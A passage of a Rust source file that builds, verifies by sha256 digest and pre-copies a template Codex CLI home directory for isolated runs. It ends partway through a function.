//! A Codex home as the CLI leaves it after its first start, copied into each run's CODEX_HOME.
//!
//! Every run gets a CODEX_HOME of its own, so that no run sees another's sessions, history or
//! state. But codex-cli's first start in an empty home creates its SQLite databases (state,
//! logs, goals, memories, queue: some seventy migrations) and unpacks its bundled skills,
//! which costs it 100-125 ms (0.171.0, measured) that a person reusing one home pays once.
//! The bridge pays it once per login instead: it starts the CLI in a scratch home in a way
//! that ends before any conversation begins (`codex exec resume` of a thread that does not
//! exist: the CLI opens its databases and unpacks its skills, then fails with "no rollout
//! found"), keeps what that leaves, and copies it into each run's home before the login.
//!
//! What is kept is a short list (the databases, the skills the CLI unpacks itself under
//! `skills/.system`, the installation id); anything else the CLI writes, such as its scratch
//! directory of helper links, is left for each run to make. The template holds no
//! credential, since it is made without auth.json, and no conversation: a scratch home in
//! which the CLI left a session is thrown away. One database the CLI creates only when a
//! conversation starts (the thread history, another 7-10 ms of a run's turn) is taken from a
//! second scratch home, where a conversation fails at once against a loopback port that
//! closes every connection, and emptied of that thread.
//!
//! A run executes as the bridge's user and could write the template, so a later run gets it
//! only as files whose sha256 matched the digests taken when it was made, as tools are (a
//! run racing the CLI while it sets the scratch home up is beyond this; see the README).
//! Copying costs a run about 5 ms (some 80 files and directories to create), so a few copies
//! are made ahead, off any run's path; a run's copy is renamed into its workspace and checked
//! there.
//!
//! A template belongs to one CLI binary and one config.toml: when either changes, the next run
//! starts making a new one. Until a template is ready, and whenever making one fails, runs
//! start in an empty home as before: slower, never wrong.

use std::ffi::OsString;
use std::fs;
use std::io::{self, Read as _, Write as _};
use std::os::unix::fs::{
    DirBuilderExt as _, MetadataExt as _, OpenOptionsExt as _, PermissionsExt as _,
};
use std::path::{Path, PathBuf};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use serde_json::{Value, json};
use sha2::{Digest as _, Sha256};
use tokio_util::sync::CancellationToken;

use crate::adapter::codex::{self, RunDirs};
use crate::config::CodexConfig;
use crate::run::supervisor::{self, ProcessSpec, RUN_MARKER};

/// How long the CLI may take to set up a scratch home.
const MAKE_TIMEOUT: Duration = Duration::from_secs(60);
/// How long after a failed attempt the next run may try again.
const RETRY_AFTER: Duration = Duration::from_secs(600);
/// A thread id no home holds, so that `exec resume` stops before any conversation.
const NO_THREAD: &str = "00000000-0000-0000-0000-000000000000";
/// How many copies of a template wait made ahead for the next runs.
const COPIES_AHEAD: usize = 4;
/// The most a template may hold; the CLI's own first start writes about 1 MB in 60 files.
const MAX_ENTRIES: usize = 4096;
const MAX_BYTES: u64 = 64 << 20;

/// The home templates of one login, kept in a directory of their own. Clones share them.
#[derive(Clone)]
pub struct HomeTemplate {
    root: PathBuf,
    shim: Option<PathBuf>,
    state: Arc<Mutex<State>>,
    /// Held while a template is made: one at a time, so that none removes another's work.
    making: Arc<tokio::sync::Mutex<()>>,
}

#[derive(Default)]
enum State {
    #[default]
    None,
    Making(Key),
    Ready(Arc<Made>),
    Failed {
        key: Key,
        at: Instant,
        problem: String,
    },
}

/// What a template is made from: the CLI's binary as found on disk, and the config.toml.
#[derive(Debug, Clone, PartialEq, Eq)]
struct Key {
    binary: PathBuf,
    device: u64,
    inode: u64,
    len: u64,
    modified_ns: i64,
    config: [u8; 32],
}

impl Key {
    /// The key for `config` and the config.toml `toml`; `None` when the CLI cannot be found
    /// (the run will say so itself).
    fn of(config: &CodexConfig, toml: Option<&[u8]>) -> Option<Self> {
        let binary = locate(&config.bin)?;
        let meta = fs::metadata(&binary).ok()?;
        Some(Self {
            device: meta.dev(),
            inode: meta.ino(),
            len: meta.len(),
            modified_ns: meta.mtime() * 1_000_000_000 + meta.mtime_nsec(),
            binary,
            config: Sha256::digest(toml.unwrap_or_default()).into(),
        })
    }

    /// A short name for the key's directory.
    fn id(&self) -> String {
        let digest = Sha256::digest(format!("{self:?}"));
        hex::encode(&digest[..8])
    }
}

/// The executable `bin` names: itself when it is a path, else the first match on PATH.
fn locate(bin: &Path) -> Option<PathBuf> {
    if bin.components().count() > 1 {
        return fs::canonicalize(bin).ok();
    }
    let path = std::env::var_os("PATH")?;
    std::env::split_paths(&path)
        .map(|dir| dir.join(bin))
        .find(|candidate| candidate.is_file())
        .and_then(|found| fs::canonicalize(found).ok())
}

/// A template that is ready: where it is and what each file must hash to, and the copies of
/// it made ahead of time, off any run's path, for the next runs to take.
#[derive(Debug)]
pub struct Made {
    key: Key,
    dir: PathBuf,
    entries: Vec<Entry>,
    /// Complete copies waiting under `dir/.ready`.
    ahead: Mutex<Vec<PathBuf>>,
    /// Set while a thread makes copies ahead, so that only one does.
    making_ahead: AtomicBool,
    /// Set when copies made ahead are of no use: the template was thrown away, or a copy
    /// cannot be moved into a run's home (another file system).
    no_more_ahead: AtomicBool,
    /// Set when making a copy ahead found the template changed since it was made.
    changed: AtomicBool,
    /// Why no more copies are made ahead, once that is so.
    ahead_stopped: Mutex<Option<String>>,
    /// What the template lacks that it would hold, and why (see [`Making::make`]).
    left_out: Option<String>,
    /// Whether copies are made ahead in the background after each one taken (else only
    /// when asked, as the unit tests do).
    in_background: bool,
}

#[derive(Debug)]
enum Entry {
    Dir(PathBuf),
    File {
        path: PathBuf,
        mode: u32,
        len: u64,
        digest: [u8; 32],
    },
}

/// Why a template could not be copied.
#[derive(Debug, thiserror::Error)]
pub enum CopyError {
    #[error("{0} in the Codex home template changed since it was made")]
    Changed(PathBuf),
    #[error(transparent)]
    Io(#[from] io::Error),
}

impl Made {
    fn new(key: Key, dir: PathBuf, entries: Vec<Entry>) -> Self {
        Self {
            key,
            dir,
            entries,
            ahead: Mutex::default(),
            making_ahead: AtomicBool::new(false),
            no_more_ahead: AtomicBool::new(false),
            changed: AtomicBool::new(false),
            ahead_stopped: Mutex::default(),
            left_out: None,
            in_background: false,
        }
    }

    /// Fills `home` (an existing, empty directory, or none) with the template: a copy made
    /// ahead of time when one waits, moved into place and checked there entry by entry, else
    /// a copy made now. Then starts making the next copy ahead.
    /// Blocking.
    pub fn fill(self: &Arc<Self>, home: &Path) -> Result<(), CopyError> {
        let waiting = lock(&self.ahead).pop();
        let taken = waiting.is_some_and(|copy| match self.take(&copy, home) {
            Ok(()) => true,
            Err(problem) => {
                tracing::warn!(%problem, "a copy of the Codex home template made ahead was refused; copying the template instead");
                false
            }
        });
        if !taken {
            self.copy_into(home)?;
        }
        self.make_ahead();
        Ok(())
    }

    /// Moves the copy made ahead at `copy` to `home` and checks it there, where no later
    /// change to the copies waiting can reach it. A copy that fails its check is removed.
    fn take(&self, copy: &Path, home: &Path) -> Result<(), CopyError> {
        if let Err(e) = fs::rename(copy, home) {
            let _ = crate::workspace::remove_tree(copy);
            if e.raw_os_error() == Some(libc::EXDEV) {
                let waiting = self.stop_making_ahead(
                    "the template and the runs' workspaces are on different file systems",
                );
                for copy in waiting {
                    let _ = crate::workspace::remove_tree(&copy);
                }
            }
            return Err(e.into());
        }
        let checked = self.check(home);
        if checked.is_err() {
            crate::workspace::remove_tree(home)?;
            fs::DirBuilder::new().mode(DIR_MODE).create(home)?;
        }
        checked
    }

    /// Whether the tree at `home` is the template as a copy of it is made: the same
    /// directories and regular files and nothing else, each file with the content it was made
    /// with and one name only (a second name would let another tree share it), every entry
    /// the bridge's with the mode a copy gets, and nothing attached (an extended attribute, an
    /// ACL, an inode flag beyond those the workspace passes on).
    fn check(&self, home: &Path) -> Result<(), CopyError> {
        use std::os::fd::AsFd as _;
        let owner = nix::unistd::geteuid().as_raw();
        let passed_on = crate::workspace::passed_on(home.parent().unwrap_or(home))?;
        let changed = |path: &Path| CopyError::Changed(path.to_owned());
        let plain = |path: &Path, fd: std::os::fd::BorrowedFd<'_>, meta: &fs::Metadata, mode| {
            if meta.uid() != owner
                || meta.mode() & 0o7777 != mode
                || crate::workspace::attached(fd, passed_on)?
            {
                return Err(changed(path));
            }
            Ok(())
        };
        // How many names each directory holds: with each expected one found, no other is.
        let mut names = std::collections::HashMap::<&Path, usize>::new();
        for entry in &self.entries {
            *names
                .entry(entry.path().parent().unwrap_or(Path::new("")))
                .or_default() += 1;
        }
        let dirs = self.entries.iter().filter_map(|entry| match entry {
            Entry::Dir(path) => Some(path.as_path()),
            Entry::File { .. } => None,
        });
        for dir in std::iter::once(Path::new("")).chain(dirs) {
            let fd = fs::OpenOptions::new()
                .read(true)
                .custom_flags(libc::O_DIRECTORY | libc::O_NOFOLLOW)
                .open(home.join(dir))
                .map_err(|_| changed(dir))?;
            plain(dir, fd.as_fd(), &fd.metadata()?, DIR_MODE)?;
            let mut found = 0;
            for entry in rustix::fs::Dir::read_from(&fd).map_err(io::Error::from)? {
                let name = entry
                    .map_err(io::Error::from)?
                    .file_name()
                    .to_bytes()
                    .to_vec();
                found += usize::from(name != b"." && name != b"..");
            }
            if found != names.get(dir).copied().unwrap_or(0) {
                return Err(changed(dir));
            }
        }
        let mut buf = Vec::new();
        for entry in &self.entries {
            if let Entry::File {
                path,
                mode,
                len,
                digest,
            } = entry
            {
                let file = open_checked(home, path, *len)?;
                let meta = file.metadata()?;
                // A second name would let another tree, or a place a run keeps, share it.
                if meta.nlink() != 1 {
                    return Err(changed(path));
                }
                plain(path, file.as_fd(), &meta, file_mode(*mode))?;
                read_checked(&file, path, *len, digest, &mut buf)?;
            }
        }
        Ok(())
    }

    /// Makes copies ahead, up to [`COPIES_AHEAD`] waiting, on a thread of their own at the
    /// lowest priority, so that they take no CPU from the CLI of the run that just took one;
    /// unless a thread already makes them, or the template makes none in the background.
    fn make_ahead(self: &Arc<Self>) {
        if !self.in_background
            || self.no_more_ahead.load(Ordering::Acquire)
            || self.making_ahead.swap(true, Ordering::AcqRel)
        {
            return;
        }
        let made = self.clone();
        let started = std::thread::Builder::new()
            .name("home-template-ahead".into())
            .spawn(move || {
                // Linux keeps a nice value per thread: this one alone yields.
                let _ = rustix::process::setpriority_process(None, 19);
                made.copy_ahead_until_full();
                made.making_ahead.store(false, Ordering::Release);
            });
        if let Err(e) = started {
            tracing::debug!(error = %e, "failed to start making copies of the Codex home template ahead");
            self.making_ahead.store(false, Ordering::Release);
        }
    }

    fn copy_ahead_until_full(&self) {
        while !self.no_more_ahead.load(Ordering::Acquire) && lock(&self.ahead).len() < COPIES_AHEAD
        {
            match self.copy_ahead() {
                Ok(copy) => lock(&self.ahead).push(copy),
                Err(CopyError::Changed(path)) => {
                    tracing::warn!(path = %path.display(), "the Codex home template changed since it was made; the next run makes it again");
                    self.changed.store(true, Ordering::Release);
                    self.stop_making_ahead("the template changed since it was made");
                }
                Err(problem) => {
                    // The next run copies the template itself, and says what is wrong.
                    tracing::debug!(%problem, "failed to copy the Codex home template ahead");
                    break;
                }
            }
        }
    }

    /// One complete copy under `dir/.ready`, which is made only while `dir` stands.
    fn copy_ahead(&self) -> Result<PathBuf, CopyError> {
        let ready = self.dir.join(".ready");
        match fs::symlink_metadata(&ready) {
            Ok(meta) if meta.is_dir() => {}
            // Not one the bridge made (a link, say): a run put it there.
            Ok(_) => {
                fs::remove_file(&ready)?;
                fs::DirBuilder::new().mode(DIR_MODE).create(&ready)?;
            }
            Err(e) if e.kind() == io::ErrorKind::NotFound => {
                fs::DirBuilder::new().mode(DIR_MODE).create(&ready)?;
            }
            Err(e) => return Err(e.into()),
        }
        let copy = ready.join(uuid::Uuid::now_v7().simple().to_string());
        fs::DirBuilder::new().mode(DIR_MODE).create(&copy)?;
        match self.copy_into(&copy) {
            Ok(()) => Ok(copy),
            Err(e) => {
                let _ = crate::workspace::remove_tree(&copy);
                Err(e)
            }
        }
    }

    /// No more copies are made ahead or taken, for the reason `why`. Returns those that were
    /// waiting: they stay on disk until the template's directory goes, unless the caller
    /// removes them.
    fn stop_making_ahead(&self, why: &str) -> Vec<PathBuf> {
        self.no_more_ahead.store(true, Ordering::Release);
        lock(&self.ahead_stopped).get_or_insert_with(|| why.to_owned());
        std::mem::take(&mut *lock(&self.ahead))
    }

    /// Copies the template into `home` (an existing, empty directory), checking every file
    /// against its digest as it is read.
    fn copy_into(&self, home: &Path) -> Result<(), CopyError> {
        let mut buf = Vec::new();
        for entry in &self.entries {
            match entry {
                Entry::Dir(path) => fs::DirBuilder::new()
                    .mode(DIR_MODE)
                    .create(home.join(path))?,
                Entry::File {
                    path,
                    mode,
                    len,
                    digest,
                } => {
                    let template = open_checked(&self.dir, path, *len)?;
                    read_checked(&template, path, *len, digest, &mut buf)?;
                    let mut file = fs::OpenOptions::new()
                        .write(true)
                        .create_new(true)
                        .mode(file_mode(*mode))
                        .open(home.join(path))?;
                    file.set_permissions(fs::Permissions::from_mode(file_mode(*mode)))?;
                    file.write_all(&buf)?;
                }
            }
        }
        Ok(())
    }

    /// How many files the template holds.
    pub fn files(&self) -> usize {
        self.entries
            .iter()
            .filter(|e| matches!(e, Entry::File { .. }))
            .count()
    }
}

/// Opens `path` under `root` when it is a regular file of length `len`: without blocking and
/// without following a link, so that nothing else standing in its place is read.
fn open_checked(root: &Path, path: &Path, len: u64) -> Result<fs::File, CopyError> {
    let changed = || CopyError::Changed(path.to_owned());
    let file = fs::OpenOptions::new()
        .read(true)
        .custom_flags(libc::O_NOFOLLOW | libc::O_NONBLOCK)
        .open(root.join(path))
        .map_err(|_| changed())?;
    let meta = file.metadata()?;
    if !meta.is_file() || meta.len() != len {
        return Err(changed());
    }
    Ok(file)
}

/// Reads `file` (`path` of the template, opened by [`open_checked`]) into `buf`, and checks
/// its length and sha256 `digest`.
fn read_checked(
    mut file: &fs::File,
    path: &Path,
    len: u64,
    digest: &[u8; 32],
    buf: &mut Vec<u8>,
) -> Result<(), CopyError> {
    buf.clear();
    (&mut file).take(len + 1).read_to_end(buf)?;
    if buf.len() as u64 != len || Sha256::digest(&buf[..]).as_slice() != digest {
        return Err(CopyError::Changed(path.to_owned()));
    }
    Ok(())
}

/// The mode of a copy's directories.
const DIR_MODE: u32 = 0o700;

/// The mode a copy of a template file with `mode` gets: the owner's bits, as the bridge's
/// umask leaves them.
fn file_mode(mode: u32) -> u32 {
    mode & 0o700
}

impl Entry {
    fn path(&self) -> &Path {
        match self {
            Entry::Dir(path) | Entry::File { path, .. } => path,
        }
    }
}

impl HomeTemplate {
    /// Templates kept under `root`, made with the CLI started under `shim` when there is one.
    pub fn new(root: PathBuf, shim: Option<PathBuf>) -> Self {
        Self {
            root,
            shim,
            state: Arc::default(),
            making: Arc::default(),
        }
    }

    /// The template for a run of `config` whose config.toml is `toml`, when one is ready.
    /// When none is, and none is being made, one is started in the background for later runs.
    /// Must be called within a Tokio runtime.
    pub fn ready(&self, config: &CodexConfig, toml: Option<&[u8]>) -> Option<Arc<Made>> {
        let key = Key::of(config, toml)?;
        let mut state = lock(&self.state);
        match &*state {
            State::Ready(made) if made.key == key && !made.changed.load(Ordering::Acquire) => {
                return Some(made.clone());
            }
            // Making it again removes it, and the copies made of it ahead.
            State::Ready(made) => {
                made.stop_making_ahead("the template is made again");
            }
            State::Making(making) if *making == key => return None,
            State::Failed {
                key: failed, at, ..
            } if *failed == key && at.elapsed() < RETRY_AFTER => {
                return None;
            }
            _ => {}
        }
        *state = State::Making(key.clone());
        drop(state);

        let task = Making {
            root: self.root.clone(),
            shim: self.shim.clone(),
            config: config.clone(),
            toml: toml.map(<[u8]>::to_vec),
            key,
        };
        let (slot, making) = (self.state.clone(), self.making.clone());
        tokio::spawn(async move {
            let _making = making.lock().await;
            let key = task.key.clone();
            let current = |state: &State| matches!(state, State::Making(making) if *making == key);
            // A newer key may have taken the slot while this one waited; its maker decides.
            if !current(&lock(&slot)) {
                return;
            }
            let started = Instant::now();
            let dir = task.root.join(key.id());
            let result = task.make().await;
            let stale = {
                let mut state = lock(&slot);
                let stale = !current(&state);
                if !stale {
                    *state = settle(result, key.clone(), started);
                    if let State::Ready(made) = &*state {
                        made.make_ahead();
                    }
                }
                stale
            };
            if stale {
                // Its key went stale while it was made; no run ever saw it.
                let _ = blocking(move || crate::workspace::remove_tree(&dir)).await;
            }
        });
        None
    }

    /// Where the template stands, for the deep health check: `none` until the first run
    /// starts making it, `making`, `ready` (with how many files each run gets) or `failed`
    /// (with why; a run tries again ten minutes later, or when the CLI or config.toml changes).
    pub fn status(&self) -> Value {
        match &*lock(&self.state) {
            State::None => json!({ "state": "none" }),
            State::Making(_) => json!({ "state": "making" }),
            State::Ready(made) => {
                let mut status = json!({
                    "state": "ready",
                    "files": made.files(),
                    "copies_ahead": lock(&made.ahead).len(),
                });
                if let Some(why) = &*lock(&made.ahead_stopped) {
                    status["copies_ahead_stopped"] = json!(why);
                }
                if let Some(left_out) = &made.left_out {
                    status["left_out"] = json!(left_out);
                }
                status
            }
            State::Failed { problem, .. } => json!({ "state": "failed", "problem": problem }),
        }
    }

    /// Throws `made` away (a copy found it changed): the next run starts making it again.
    /// Blocking: it removes the template's directory.
    pub fn discard(&self, made: &Arc<Made>) {
        let mut state = lock(&self.state);
        if matches!(&*state, State::Ready(ready) if Arc::ptr_eq(ready, made)) {
            *state = State::None;
            drop(state);
            made.stop_making_ahead("the template was thrown away");
            let _ = crate::workspace::remove_tree(&made.dir);
        }
    }
}

/// The state a finished attempt leaves, said in the log.
fn settle(result: Result<Made, String>, key: Key, started: Instant) -> State {
    match result {
        Ok(made) => {
            tracing::info!(
                files = made.files(),
                took_ms = started.elapsed().as_millis() as u64,
                "a Codex home template is ready; runs start from it"
            );
            State::Ready(Arc::new(made))
        }
        Err(problem) => {
            tracing::warn!(problem = %problem, "failed to make a Codex home template; runs start in an empty home");
            State::Failed {
                key,
                at: Instant::now(),
                problem,
            }
        }
    }
}

fn lock<T>(state: &Mutex<T>) -> std::sync::MutexGuard<'_, T> {
    state
        .lock()
        .unwrap_or_else(|poisoned| poisoned.into_inner())
}

/// Making one template.
struct Making {
    root: PathBuf,
    shim: Option<PathBuf>,
    config: CodexConfig,
    toml: Option<Vec<u8>>,
    key: Key,
}

impl Making {
    async fn make(self) -> Result<Made, String> {
        let id = self.key.id();
        // Not a name a run could guess ahead of time (see the README's known limit).
        let scratch = self
            .root
            .join(format!(".making-{}", uuid::Uuid::now_v7().simple()));
        // What a bridge that stopped while making one left running.
        let marker = format!("home-template:{}", self.root.display());
        supervisor::kill_marked(RUN_MARKER, &marker).await;
        let dirs = scratch_dirs(&scratch);
        let (setup_dirs, toml) = (dirs.clone(), self.toml.clone());
        let (root, setup_scratch) = (self.root.clone(), scratch.clone());
        blocking(move || set_up(&root, &setup_scratch, &setup_dirs, toml.as_deref()))
            .await
            .map_err(|e| format!("failed to set up {}: {e}", scratch.display()))?;

        let env = codex::environment(&dirs);
        let resume = vec![NO_THREAD.into()];
        let finished = self
            .run_cli(
                &["exec", "resume"],
                resume,
                &dirs,
                env,
                &marker,
                MAKE_TIMEOUT,
            )
            .await?;
        if !finished {
            let _ = blocking(move || crate::workspace::remove_tree(&scratch)).await;
            return Err(format!(
                "the CLI did not finish setting up a home within {}s",
                MAKE_TIMEOUT.as_secs()
            ));
        }

        // Without them the template still saves most of the CLI's first start.
        let left_out = match self.conversation_databases(&scratch, &marker).await {
            Ok(()) => None,
            Err(problem) => {
                tracing::warn!(%problem, "the Codex home template goes without the databases of a first conversation");
                Some(format!("the databases of a first conversation: {problem}"))
            }
        };

        let dir = self.root.join(&id);
        let kept = {
            let (root, scratch, dir) = (self.root.clone(), scratch.clone(), dir.clone());
            blocking(move || {
                let entries = keep(&scratch.join("codex-home"), &dir)?;
                // Templates of an earlier CLI or config.toml are of no more use.
                remove_others(&root, &dir);
                Ok(entries)
            })
            .await
        };
        let _ = blocking(move || crate::workspace::remove_tree(&scratch)).await;
        let entries = match kept {
            Ok(entries) => entries,
            Err(e) => {
                let _ = blocking(move || crate::workspace::remove_tree(&dir)).await;
                return Err(format!("the home the CLI set up cannot be kept: {e}"));
            }
        };
        Ok(Made {
            left_out,
            in_background: true,
            ..Made::new(self.key, dir, entries)
        })
    }

    /// Adds to the scratch home the databases the CLI creates only when a conversation
    /// starts (0.171.0: the thread history, nine migrations, 7-10 ms of every run's turn),
    /// emptied of that conversation. The CLI starts one in a second scratch home, without
    /// the login or its config.toml (so no MCP server or other setting of the operator's
    /// starts), against a model provider on a loopback port of the bridge's own that closes
    /// every connection: the turn fails at its first request, and nothing leaves the machine.
    async fn conversation_databases(&self, scratch: &Path, marker: &str) -> Result<(), String> {
        // The CLI always reads the system's layers, which may name another model provider
        // (managed_config.toml wins over the command line) or start MCP servers.
        if fs::symlink_metadata(SYSTEM_CONFIG_DIR).is_ok() {
            return Err(format!(
                "{SYSTEM_CONFIG_DIR} holds system-wide settings of the CLI, which could send \
                 the conversation elsewhere"
            ));
        }
        let second = scratch.join("conversation");
        let dirs = scratch_dirs(&second);
        let (setup_dirs, setup_second) = (dirs.clone(), second.clone());
        blocking(move || make_scratch(&setup_second, &setup_dirs))
            .await
            .map_err(|e| format!("failed to set up {}: {e}", second.display()))?;

        let listener = tokio::net::TcpListener::bind((std::net::Ipv4Addr::LOCALHOST, 0))
            .await
            .map_err(|e| format!("failed to listen on loopback: {e}"))?;
        let port = listener
            .local_addr()
            .map_err(|e| format!("failed to listen on loopback: {e}"))?
            .port();
        let reached = Arc::new(AtomicBool::new(false));
        let closer = tokio::spawn({
            let reached = reached.clone();
            async move {
                while let Ok((connection, _)) = listener.accept().await {
                    reached.store(true, Ordering::Release);
                    drop(connection);
                }
            }
        });
        let provider = vec![
            "--config".into(),
            format!("model_provider=\"{UNREACHABLE_PROVIDER}\"").into(),
            "--config".into(),
            format!(
                "model_providers.{UNREACHABLE_PROVIDER}={{ name = \"closed\", \
                 base_url = \"http://127.0.0.1:{port}/v1\", wire_api = \"responses\", \
                 request_max_retries = 0, stream_max_retries = 0 }}"
            )
            .into(),
        ];
        // No proxy: the one connection is to the port above.
        let mut env: Vec<(OsString, OsString)> = codex::environment(&dirs)
            .into_iter()
            .filter(|(name, _)| {
                !name
                    .to_string_lossy()
                    .to_ascii_lowercase()
                    .ends_with("_proxy")
            })
            .collect();
        env.extend([
            ("NO_PROXY".into(), "*".into()),
            ("no_proxy".into(), "*".into()),
        ]);
        let finished = self
            .run_cli(
                &["exec"],
                provider,
                &dirs,
                env,
                marker,
                CONVERSATION_TIMEOUT,
            )
            .await;
        closer.abort();
        if !finished? {
            return Err(format!(
                "the CLI did not give up on a closed connection within {}s",
                CONVERSATION_TIMEOUT.as_secs()
            ));
        }
        if !reached.load(Ordering::Acquire) {
            return Err("the CLI's request never reached the bridge's loopback port".into());
        }
        let (from, into) = (dirs.codex_home, scratch.join("codex-home"));
        blocking(move || adopt_thread_databases(&from, &into))
            .await
            .map_err(|e| format!("failed to keep the conversation's databases: {e}"))
    }

    /// Runs `codex <subcommand> --json` with the bridge's settings, then `options`, on the
    /// prompt "x", in the scratch tree `dirs` with `env`, under `marker`. True when it ended by
    /// itself, false when it was stopped at `timeout`.
    async fn run_cli(
        &self,
        subcommand: &[&str],
        options: Vec<OsString>,
        dirs: &RunDirs,
        env: Vec<(OsString, OsString)>,
        marker: &str,
        timeout: Duration,
    ) -> Result<bool, String> {
        let mut args: Vec<OsString> = subcommand.iter().map(OsString::from).collect();
        args.extend(["--json".into(), "--skip-git-repo-check".into()]);
        args.extend(codex::settings(&self.config));
        args.extend(options);
        args.extend(["--".into(), "x".into()]);
        let spec = ProcessSpec {
            program: self.config.bin.clone(),
            args,
            env,
            cwd: dirs.work.clone(),
            marker: (RUN_MARKER.to_owned(), marker.to_owned()),
            timeout,
            idle_timeout: None,
            shim: self.shim.clone(),
            run_as: None,
        };
        let outcome = supervisor::run(spec, CancellationToken::new(), |_, _| {})
            .await
            .map_err(|e| format!("failed to start {}: {e}", self.config.bin.display()))?;
        Ok(outcome.stopped.is_none())
    }
}

/// A scratch tree under `root` laid out as a run's.
fn scratch_dirs(root: &Path) -> RunDirs {
    RunDirs {
        work: root.join("work"),
        bin: root.join("bin"),
        home: root.join("home"),
        codex_home: root.join("codex-home"),
        tmp: root.join("tmp"),
        last_message: root.join("last-message.txt"),
    }
}

/// Makes `root` and the directories of `dirs` under it that the CLI needs.
fn make_scratch(root: &Path, dirs: &RunDirs) -> io::Result<()> {
    for dir in [root, &dirs.work, &dirs.home, &dirs.codex_home, &dirs.tmp] {
        fs::DirBuilder::new().mode(0o700).create(dir)?;
    }
    Ok(())
}

/// Where the CLI reads its system-wide settings (codex-rs, on Unix).
const SYSTEM_CONFIG_DIR: &str = "/etc/codex";
/// How long the conversation that makes the thread databases may take to fail: it fails at
/// its first request, within two seconds here.
const CONVERSATION_TIMEOUT: Duration = Duration::from_secs(20);

/// The model provider of the conversation that makes the thread databases.
const UNREACHABLE_PROVIDER: &str = "home-template-closed-port";

/// Moves into `into` each database of `from` that `into` lacks and that holds threads only:
/// every table but the migrations' has a `thread_id` column or is empty. The threads' rows
/// are deleted and the file is vacuumed, so it keeps its schema and nothing of the
/// conversation. A database of any other kind is left out, since its rows may matter.
fn adopt_thread_databases(from: &Path, into: &Path) -> io::Result<()> {
    for entry in fs::read_dir(from)? {
        let entry = entry?;
        let name = entry.file_name();
        if !name.to_string_lossy().ends_with(".sqlite")
            || !entry.file_type()?.is_file()
            || fs::symlink_metadata(into.join(&name)).is_ok()
        {
            continue;
        }
        let path = entry.path();
        if empty_of_threads(&path)? {
            fold_journal(&path)?;
            fs::rename(&path, into.join(&name))?;
        } else {
            tracing::debug!(database = %path.display(), "not a thread database; left out of the Codex home template");
        }
    }
    Ok(())
}

/// Deletes every thread from the database at `path`; false when it holds anything else.
fn empty_of_threads(path: &Path) -> io::Result<bool> {
    let failed = |e: rusqlite::Error| io::Error::other(format!("{}: {e}", path.display()));
    let db =
        rusqlite::Connection::open_with_flags(path, rusqlite::OpenFlags::SQLITE_OPEN_READ_WRITE)
            .map_err(failed)?;
    let tables: Vec<String> = db
        .prepare("SELECT name FROM sqlite_schema WHERE type = 'table'")
        .and_then(|mut query| query.query_map([], |row| row.get(0))?.collect())
        .map_err(failed)?;
    if !tables.iter().any(|t| t == MIGRATIONS_TABLE) {
        return Ok(false);
    }
    let quoted = |table: &str| format!("\"{}\"", table.replace('"', "\"\""));
    db.execute_batch("BEGIN").map_err(failed)?;
    for table in tables.iter().filter(|t| *t != MIGRATIONS_TABLE) {
        let has_thread_id: bool = db
            .query_row(
                "SELECT count(*) > 0 FROM pragma_table_info(?1) WHERE name = 'thread_id'",
                [table],
                |row| row.get(0),
            )
            .map_err(failed)?;
        // sqlite_sequence holds the counters of the tables' AUTOINCREMENT keys.
        if has_thread_id || table == "sqlite_sequence" {
            db.execute(&format!("DELETE FROM {}", quoted(table)), [])
                .map_err(failed)?;
        } else {
            let rows: i64 = db
                .query_row(
                    &format!("SELECT count(*) FROM {}", quoted(table)),
                    [],
                    |row| row.get(0),
                )
                .map_err(failed)?;
            if rows > 0 {
                return Ok(false);
            }
        }
    }
    db.execute_batch("COMMIT; VACUUM").map_err(failed)?;
    db.close().map_err(|(_, e)| failed(e))?;
    Ok(true)
}

/// The table in which the CLI's migration tool records the schema's version.
const MIGRATIONS_TABLE: &str = "_sqlx_migrations";

async fn blocking<T: Send + 'static>(
    work: impl FnOnce() -> io::Result<T> + Send + 'static,
) -> io::Result<T> {
    tokio::task::spawn_blocking(work)
        .await
        .unwrap_or_else(|e| Err(io::Error::other(e)))
}

/// Removes every template under `root` but `current`, leaving scratch trees being made.
fn remove_others(root: &Path, current: &Path) {
    let Ok(entries) = fs::read_dir(root) else {
        return;
    };
    for entry in entries.flatten() {
        let path = entry.path();
        if path != current && !entry.file_name().to_string_lossy().starts_with(".making-") {
            let _ = crate::workspace::remove_tree(&path);
        }
    }
}

/// Makes the scratch tree (removing what earlier attempts left under `root`) with the
/// config.toml, and no login, in its CODEX_HOME.
fn set_up(root: &Path, scratch: &Path, dirs: &RunDirs, toml: Option<&[u8]>) -> io::Result<()> {
    fs::DirBuilder::new()
        .recursive(true)
        .mode(0o700)
        .create(root)?;
    for entry in fs::read_dir(root)? {
        let entry = entry?;
        if entry.file_name().to_string_lossy().starts_with(".making-") {
            crate::workspace::remove_tree(&entry.path())?;
        }
    }
    make_scratch(scratch, dirs)?;
    if let Some(toml) = toml {
        fs::OpenOptions::new()
            .write(true)
            .create_new(true)
            .mode(0o600)
            .open(dirs.codex_home.join("config.toml"))?
            .write_all(toml)?;
    }
    Ok(())
}

/// Moves what is worth keeping from the CLI's scratch `home` into `dir`, and lists it with
/// each file's digest. Refuses a home in which a conversation was recorded.
fn keep(home: &Path, dir: &Path) -> io::Result<Vec<Entry>> {
    let sessions = home.join("sessions");
    if sessions.exists()
        && walk(&sessions)?
            .iter()
            .any(|e| matches!(e, Walked::File(..)))
    {
        return Err(io::Error::other("the CLI recorded a session in it"));
    }
    let mut databases = 0;
    match crate::workspace::remove_tree(dir) {
        Err(e) if e.kind() != io::ErrorKind::NotFound => return Err(e),
        _ => {}
    }
    fs::DirBuilder::new().mode(0o700).create(dir)?;
    for entry in fs::read_dir(home)? {
        let entry = entry?;
        let name = entry.file_name();
        let name = name.to_string_lossy();
        let kind = entry.file_type()?;
        if name.ends_with(".sqlite") && kind.is_file() {
            fold_journal(&entry.path())?;
            databases += 1;
            fs::rename(entry.path(), dir.join(&*name))?;
        } else if name == "installation_id" && kind.is_file() {
            fs::rename(entry.path(), dir.join(&*name))?;
        } else if name == "skills" && kind.is_dir() {
            // Only the skills the CLI unpacks itself; any other was put there by someone.
            let bundled = entry.path().join(".system");
            if fs::symlink_metadata(&bundled).is_ok_and(|m| m.is_dir()) {
                fs::DirBuilder::new()
                    .mode(0o700)
                    .create(dir.join("skills"))?;
                fs::rename(bundled, dir.join("skills/.system"))?;
            }
        }
    }
    if databases == 0 {
        return Err(io::Error::other("the CLI created no database in it"));
    }

    let mut entries = Vec::new();
